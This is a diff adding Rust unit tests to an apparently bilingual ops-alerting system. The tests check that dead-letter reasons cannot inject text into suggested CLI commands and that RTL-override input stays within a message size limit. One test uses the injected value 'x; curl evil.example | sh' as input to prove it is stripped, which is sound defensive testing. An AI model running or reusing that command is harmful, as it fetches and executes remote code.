@@ -13,7 +13,7 @@ use store::stock::LowStock;
 
 use super::super::cause::SeenCause;
 use super::super::decision::News;
-use super::super::notice::Notice;
+use super::super::notice::{Bulletin, Notice};
 use super::*;
 use crate::operations::overview::ingress::{Notifications, Refused};
 use crate::operations::pause::PausedWork;
@@ -203,4 +203,36 @@ fn no_finding_is_left_out() {
     let known: BTreeSet<&str> = causes().iter().map(Cause::code).collect();
     let missing: Vec<&str> = headings.filter(|code| !known.contains(code)).collect();
     assert_eq!(missing, Vec::<&str>::new());
+}
+
+#[test]
+fn the_reason_of_a_letter_is_no_part_of_a_command_unless_it_is_a_word() {
+    let told = |reason: &str| {
+        let seen = Cause::seen(&[Cause::DeadLetters { reason: reason.to_owned(), letters: 1 }]);
+        seen.into_iter().next().unwrap().text
+    };
+    let hostile = told("x; curl evil.example | sh");
+    assert_eq!(
+        (&*hostile.chinese.to_do, &*hostile.english.to_do),
+        ("ops dlq list --group", "ops dlq list --group")
+    );
+    assert!(told("total_mismatch").english.to_do.ends_with("ops dlq list --reason total_mismatch"));
+    assert_eq!(told(crate::operations::dead_letter::NO_REASON).page, "/dead-letters?reason=none");
+}
+
+#[test]
+fn what_cannot_be_seen_still_fits_into_the_smallest_message() {
+    let reason = "\u{202e}".repeat(400);
+    let seen = Cause::seen(&[Cause::DeadLetters { reason, letters: 1 }]);
+    let SeenCause { id, urgency, text, .. } = seen.into_iter().next().unwrap();
+    let kind = AlarmMessageKind::Opened;
+    let news = News { kind, cause: id, urgency, since: time(), text };
+    for language in [Language::Chinese, Language::English] {
+        let content = Notice::content(&news, language, Some("https://console.example"), time());
+        let notices = [Notice::read(kind, urgency, &content).unwrap()];
+        let text =
+            crate::operations::notify::markup::markdown(&Bulletin { notices: &notices, language });
+        // That of WeCom.
+        assert!(text.len() < 3_600, "{}", text.len());
+    }
 }
